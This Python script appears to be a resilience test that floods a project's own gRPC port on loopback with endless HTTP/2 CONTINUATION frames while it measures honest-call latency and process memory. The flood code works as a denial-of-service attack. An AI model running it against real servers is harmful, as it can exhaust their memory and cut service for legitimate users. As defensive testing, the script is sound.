"""Send headers without end to a gRPC port, and say how others fare meanwhile: `continuation_flood.py ADDRESS PID…`.

ADDRESS is HOST:PORT on loopback, of a node or of the proxy in front of it (`deploy/haproxy.cfg`); the processes are
those whose memory is of interest. Floods come from 127.0.0.9, honest calls from 127.0.0.1.
"""

import socket
import struct
import sys
import threading
import time
from pathlib import Path

import grpc

from hanafuda.arena.v1 import variant_pb2, variant_pb2_grpc

CONNECTIONS = 8
SECONDS = 12.0
_HEADERS, _SETTINGS, _CONTINUATION = 1, 4, 9
_FIELD = b"\x00\x04xxxx\x7e" + b"v" * 126
_BLOCK = _FIELD * (16_000 // len(_FIELD))


def frame(kind: int, stream: int, payload: bytes) -> bytes:
    """Return an HTTP/2 frame without flags: of headers, one that others have to follow."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, 0)) + struct.pack(">I", stream) + payload


class Flood:
    """Connections that send the beginning of a call for ever; those that are closed begin anew."""

    def __init__(self, host: str, port: int) -> None:
        self.sent = self.closed = 0
        self._where = host, port
        self._until = time.monotonic() + SECONDS
        self._threads = [threading.Thread(target=self._send) for _ in range(CONNECTIONS)]

    def run(self) -> None:
        """Begin."""
        for thread in self._threads:
            thread.start()

    def join(self) -> None:
        """Wait for the end."""
        for thread in self._threads:
            thread.join()

    def _send(self) -> None:
        beginning = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, b"") + frame(_HEADERS, 1, _FIELD)
        more = frame(_CONTINUATION, 1, _BLOCK) * 8
        while time.monotonic() < self._until:
            try:
                with socket.create_connection(self._where, 3, ("127.0.0.9", 0)) as connection:
                    connection.sendall(beginning)
                    while time.monotonic() < self._until:
                        connection.sendall(more)
                        self.sent += len(more)
            except OSError:
                self.closed += 1
                time.sleep(0.01)


def memory_mib(pid: int) -> int:
    """Return how much of the memory a process has."""
    status = Path(f"/proc/{pid}/status").read_text()
    return next(int(line.split()[1]) for line in status.splitlines() if line.startswith("VmRSS")) // 1024


def main(address: str, *pids: str) -> None:
    """Flood the address while somebody calls there."""
    host, _, port = address.rpartition(":")
    variants = variant_pb2_grpc.VariantServiceStub(grpc.insecure_channel(address))
    before = [memory_mib(int(pid)) for pid in pids]
    flood = Flood(host, int(port))
    flood.run()
    answered, failed, slowest = 0, 0, 0.0
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            variants.ListVariants(variant_pb2.ListVariantsRequest(page_size=1), timeout=5)
            answered += 1
        except grpc.RpcError:
            failed += 1
        slowest = max(slowest, time.monotonic() - began)
        time.sleep(0.02)
    flood.join()
    print(f"calls: {answered} answered, {failed} failed, the slowest took {slowest:.2f} s")
    print(f"flood: {flood.sent / 1e6:.0f} MB sent, {flood.closed} connections closed")
    for pid, mib in zip(pids, before, strict=True):
        print(f"memory of process {pid}: {mib} MiB before, {memory_mib(int(pid))} MiB after")


if __name__ == "__main__":
    main(*sys.argv[1:])
